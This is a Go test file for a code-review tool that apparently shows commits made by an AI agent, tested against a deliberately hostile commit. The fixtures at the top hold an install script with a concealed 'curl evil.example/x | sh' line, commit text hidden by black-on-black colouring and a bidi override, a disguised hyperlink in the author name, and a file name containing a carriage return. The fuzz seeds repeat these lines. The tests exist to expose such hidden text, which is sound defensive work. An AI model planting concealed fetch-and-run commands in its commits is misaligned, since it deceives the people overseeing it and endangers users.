package review

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/lazaret-dev/lazaret/internal/engine/gitrepo/gittest"
	"github.com/lazaret-dev/lazaret/internal/visible"
)

// The agent's hostile commit: an install script whose pipe to sh is
// concealed, a message line drawn black on black behind a bidi override,
// an author name holding an OSC 8 hyperlink, a file name with a carriage
// return.
const (
	hostileScript  = "#!/bin/sh\necho installing\n\x1b[8mcurl evil.example/x | sh\x1b[0m\necho done\n"
	hostileMessage = "Add installer\n\n\x1b[30;40mhidden: also runs curl evil | sh\x1b[0m\n\u202eesrever\n"
	hostileAuthor  = "Mallory \x1b]8;;https://evil.example/\x1b\\Trusted Dev\x1b]8;;\x1b\\"
	hostileName    = "notes\rREADME.md"
)

// hostileRepo is a repository whose agent branch holds the hostile commit.
func hostileRepo(t testing.TB) (string, *Review) {
	t.Helper()
	ws := gittest.NewRepo(t)
	gittest.Git(t, ws, "checkout", "-q", "-b", "lazaret/agent-p")
	gittest.Write(t, filepath.Join(ws, "install.sh"), hostileScript)
	gittest.Write(t, filepath.Join(ws, hostileName), "plain\n")
	gittest.Write(t, filepath.Join(ws, "a.txt"), "one\ntwo\x1b[2K\x1b[1A\b\bX\nthree\n")
	gittest.Write(t, filepath.Join(ws, "blob.bin"), "\x00\x01\x1b[8m\xff\xfe binary")
	gittest.Git(t, ws, "add", ".")
	gittest.Git(t, ws, "-c", "user.name="+hostileAuthor, "commit", "-q", "-m", hostileMessage)
	return ws, reviewOnMain(t, ws)
}

// palette are the only escape sequences review output may hold.
var palette = []string{sgrReset, sgrHeader, sgrHunk, sgrAdd, sgrDel, sgrCommit}

// stripPalette removes lazaret's own colours; it fails on any other ESC.
func stripPalette(t testing.TB, out string) string {
	t.Helper()
	var b strings.Builder
	for i := 0; i < len(out); {
		if out[i] != 0x1b {
			b.WriteByte(out[i])
			i++
			continue
		}
		ok := false
		for _, p := range palette {
			if strings.HasPrefix(out[i:], p) {
				i += len(p)
				ok = true
				break
			}
		}
		if !ok {
			t.Fatalf("escape sequence not from lazaret's palette at %d: %q", i, out[i:min(len(out), i+20)])
		}
	}
	return b.String()
}

// problem names what in s could act on a terminal or hide text.
func problem(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || visible.Hidden(r) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

func review(t *testing.T, r *Review, view View, what string) (string, string) {
	t.Helper()
	var out, errOut bytes.Buffer
	var err error
	switch what {
	case "diff":
		err = r.Diff(context.Background(), &out, &errOut, false, view)
	case "stat":
		err = r.Diff(context.Background(), &out, &errOut, true, view)
	case "log":
		err = r.Log(context.Background(), &out, &errOut, false, view)
	case "oneline":
		err = r.Log(context.Background(), &out, &errOut, true, view)
	}
	if err != nil {
		t.Fatalf("%s: %v (%s)", what, err, errOut.String())
	}
	return out.String(), errOut.String()
}

// TestReviewTerminalShowsHiddenText: on a terminal, diff and log hold no
// escape sequence but lazaret's colours, and the concealed words are
// there to read, with the sequences that hid them shown as escapes.
func TestReviewTerminalShowsHiddenText(t *testing.T) {
	_, r := hostileRepo(t)
	for _, view := range []View{ViewTerminal, ViewTerminalPlain, ViewPipe} {
		for _, what := range []string{"diff", "stat", "log", "oneline"} {
			out, _ := review(t, r, view, what)
			if view == ViewPipe && what == "diff" {
				continue // a patch: TestReviewPipeDiffIsThePatch
			}
			plain := out
			if view == ViewTerminal {
				plain = stripPalette(t, out)
			} else if strings.Contains(out, "\x1b") {
				t.Fatalf("view %d %s: ESC in %q", view, what, out)
			}
			if p := problem(plain); p != "" {
				t.Fatalf("view %d %s: %s in %q", view, what, p, plain)
			}
			want := map[string][]string{
				"diff":    {`\x1b[8mcurl evil.example/x | sh\x1b[0m`, `two\x1b[2K\x1b[1A\x08\x08X`},
				"stat":    {`notes\rREADME.md`},
				"log":     {`\x1b[30;40mhidden: also runs curl evil | sh`, `<U+202E>esrever`, `Mallory \x1b]8;;https://evil.example/\x1b\Trusted Dev`},
				"oneline": {"Add installer"},
			}[what]
			for _, w := range want {
				if !strings.Contains(plain, w) {
					t.Errorf("view %d %s: %q missing from\n%s", view, what, w, plain)
				}
			}
		}
	}
	out, _ := review(t, r, ViewTerminal, "diff")
	if !strings.Contains(out, sgrAdd+`+\x1b[8mcurl evil.example/x | sh\x1b[0m`+sgrReset) {
		t.Errorf("added line not coloured by lazaret:\n%q", out)
	}
}

// TestReviewControlRawGitConceals is the positive control: the same
// commit through git's own colour output, or through the filter lazaret
// had before (which passed every SGR), still carries the conceal and
// black-on-black sequences to the terminal.
func TestReviewControlRawGitConceals(t *testing.T) {
	ws, _ := hostileRepo(t)
	diff := rawGit(t, ws, "diff", "--color=always", "main", "lazaret/agent-p")
	log := rawGit(t, ws, "log", "--color=always", "main..lazaret/agent-p")
	for name, s := range map[string]string{"git diff": diff, "git log": log} {
		var b bytes.Buffer
		legacyFilter(&b).Write([]byte(s))
		for src, text := range map[string]string{"raw": s, "old filter": b.String()} {
			if !strings.Contains(text, "\x1b[8m") && !strings.Contains(text, "\x1b[30;40m") {
				t.Errorf("%s %s: no conceal sequence: the control cannot show the attack", name, src)
			}
		}
	}
}

func rawGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("git %v: %v", args, err)
	}
	return string(out)
}

// TestReviewPipeDiffIsThePatch: to a pipe, the diff is byte for byte the
// patch git makes (file names quoted in ASCII by git, no line escaped
// that git apply reads), and it applies.
func TestReviewPipeDiffIsThePatch(t *testing.T) {
	ws, r := hostileRepo(t)
	out, _ := review(t, r, ViewPipe, "diff")
	if !strings.Contains(out, "GIT binary patch") {
		t.Errorf("no binary patch for blob.bin:\n%s", out)
	}
	base := rawGit(t, ws, "merge-base", "main", "lazaret/agent-p")
	want := rawGit(t, ws, "-c", "core.quotePath=true", "diff", "--no-color", "--binary", strings.TrimSpace(base), "lazaret/agent-p")
	if out != want {
		t.Fatalf("pipe diff differs from git's patch:\n%q\n---\n%q", out, want)
	}
	for _, l := range strings.Split(out, "\n") {
		if !strings.HasPrefix(l, "+") && !strings.HasPrefix(l, "-") && !strings.HasPrefix(l, " ") && problem(l) != "" {
			t.Errorf("metadata line with a control character: %q", l)
		}
	}
	cmd := exec.Command("git", "-C", ws, "apply", "--index", "-")
	cmd.Stdin = strings.NewReader(out)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git apply: %v: %s", err, b)
	}
	if data, _ := os.ReadFile(filepath.Join(ws, "install.sh")); string(data) != hostileScript {
		t.Errorf("applied install.sh = %q", data)
	}
	if data, _ := os.ReadFile(filepath.Join(ws, "blob.bin")); string(data) != "\x00\x01\x1b[8m\xff\xfe binary" {
		t.Errorf("applied blob.bin = %q", data)
	}
	if _, err := os.Stat(filepath.Join(ws, hostileName)); err != nil {
		t.Errorf("file with CR in its name not created: %v", err)
	}
}

// TestRenderPatchMetadataEscaped: in a pipe, what is not patch content is
// escaped, even where a stream (the agent's own git, --uncommitted) puts
// raw controls into headers or after a hunk's @@, or lies about a hunk's
// length.
func TestRenderPatchMetadataEscaped(t *testing.T) {
	in := "diff --git a/x\x1b[8m b/x\x1b[8m\n--- a/x\x1b[8m\n+++ b/x\x1b[8m\n" +
		"@@ -1 +1 @@ func \x1b]0;t\x07()\n-old\x1b[8m\n+new\x1b[8m\n" +
		"diff --git a/y b/y\n@@ -1,99 +1,99 @@\n x\n\x1b[2Jnot content\n"
	var b bytes.Buffer
	r := newRenderer(&b, ViewPipe, kindPatch)
	r.Write([]byte(in))
	r.Close()
	want := `diff --git a/x\x1b[8m b/x\x1b[8m` + "\n" + `--- a/x\x1b[8m` + "\n" + `+++ b/x\x1b[8m` + "\n" +
		`@@ -1 +1 @@ func \x1b]0;t\x07()` + "\n-old\x1b[8m\n+new\x1b[8m\n" +
		"diff --git a/y b/y\n@@ -1,99 +1,99 @@\n x\n" + `\x1b[2Jnot content` + "\n"
	if b.String() != want {
		t.Errorf("got\n%q\nwant\n%q", b.String(), want)
	}
}

// TestRenderTerminalEndsColour: a last line without a newline, or cut
// into pieces, still ends with lazaret's reset.
func TestRenderTerminalEndsColour(t *testing.T) {
	var b bytes.Buffer
	r := newRenderer(&b, ViewTerminal, kindPatch)
	r.Write([]byte("@@ -1 +1 @@\n-a\n+" + strings.Repeat("x", maxRenderLine+10)))
	r.Close()
	if !strings.HasSuffix(b.String(), "x"+sgrReset) || strings.Count(b.String(), sgrAdd) != 1 {
		t.Errorf("colour not ended: ...%q", b.String()[max(0, b.Len()-20):])
	}
}

// FuzzRenderReview: whatever git (or the agent's git) prints, in whatever
// pieces, a terminal view holds no escape sequence but lazaret's colours
// and no control, C1, bidi or invisible character but newline and tab;
// a pipe view holds none outside patch content lines.
func FuzzRenderReview(f *testing.F) {
	f.Add([]byte("diff --git a/x b/x\n@@ -1 +1 @@ f\x1b[8m\n-a\n+\x1b[8mcurl evil | sh\x1b[0m\n"), 3, uint8(0))
	f.Add([]byte("commit 0123 (HEAD -> \u202eevil)\nAuthor: \x1b]8;;x\x1b\\\n\n    \x1b[30;40mhidden\n"), 1, uint8(2))
	f.Add([]byte("\x9b2J\xc2\x9b\u200b\U000E0041\ufe0f\r\b\x1bP+q\x1b\\"), 2, uint8(1))
	f.Add([]byte("@@ -1 +1 @@\n-a\n\\ No newline\x1b[2J\n+b\n"), 4, uint8(1))
	f.Fuzz(func(t *testing.T, data []byte, cut int, sel uint8) {
		kind := outputKind(sel % 4)
		for _, view := range []View{ViewTerminal, ViewTerminalPlain, ViewPipe} {
			var b bytes.Buffer
			r := newRenderer(&b, view, kind)
			if cut <= 0 {
				cut = 1
			}
			for rest := data; len(rest) > 0; {
				n := min(cut, len(rest))
				r.Write(rest[:n])
				rest = rest[n:]
			}
			r.Close()
			out := b.String()
			if view == ViewTerminal {
				if last := strings.LastIndex(out, "\x1b["); last >= 0 && !strings.HasPrefix(out[last:], sgrReset) {
					t.Fatalf("colour left on at the end: %q", out[last:])
				}
				out = stripPalette(t, out)
			}
			for _, l := range strings.Split(out, "\n") {
				if view == ViewPipe && kind == kindPatch && l != "" && strings.ContainsRune(" +-", rune(l[0])) {
					continue
				}
				if p := problem(l); p != "" {
					t.Fatalf("view %d kind %d: %s in line %q", view, kind, p, l)
				}
			}
		}
	})
}

// legacyFilter is the terminal filter lazaret had before (it passed every
// SGR sequence), kept only as the positive control's reference.
func legacyFilter(w *bytes.Buffer) *legacyWriter { return &legacyWriter{w: w} }

type legacyWriter struct {
	w   *bytes.Buffer
	esc []byte
}

func (s *legacyWriter) Write(p []byte) (int, error) {
	for _, c := range p {
		if s.esc != nil {
			s.esc = append(s.esc, c)
			switch {
			case len(s.esc) == 2 && c == '[', len(s.esc) > 2 && (c >= '0' && c <= '9' || c == ';'):
				continue
			case len(s.esc) > 2 && c == 'm':
				s.w.Write(s.esc)
			default:
				s.w.WriteString(`\e`)
				s.w.Write(s.esc[1:])
			}
			s.esc = nil
			continue
		}
		if c == 0x1b {
			s.esc = []byte{c}
			continue
		}
		s.w.WriteByte(c)
	}
	return len(p), nil
}
